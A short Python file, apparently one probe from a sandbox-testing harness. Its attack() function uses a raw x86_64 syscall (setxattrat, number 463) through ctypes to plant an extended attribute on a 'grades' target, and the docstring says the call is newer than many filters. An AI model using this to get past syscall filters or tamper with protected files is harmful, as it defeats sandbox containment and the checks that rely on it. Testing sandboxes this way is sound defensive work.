"""sets an extended attribute by setxattrat, which is newer than many a filter"""

import ctypes
import os
import struct

# Python's lock is kept during a call, so that a clone in it is safe.
LIBC = ctypes.PyDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(number, *values):
    """A system call by its number, which raises OSError as Python's own wrappers do."""
    if os.uname().machine != "x86_64":
        raise OSError("the numbers here are x86_64's")
    values = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
    result = LIBC.syscall(ctypes.c_long(number), *values)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    value = ctypes.create_string_buffer(b"yes")
    args = struct.pack("QII", ctypes.addressof(value), 3, 0)
    path = os.fsencode(TARGETS["grades"])
    syscall(463, -100, path, 0, b"user.planted2", args, len(args))
    if "user.planted2" in os.listxattr(TARGETS["grades"]):
        reached("the grades have an attribute")
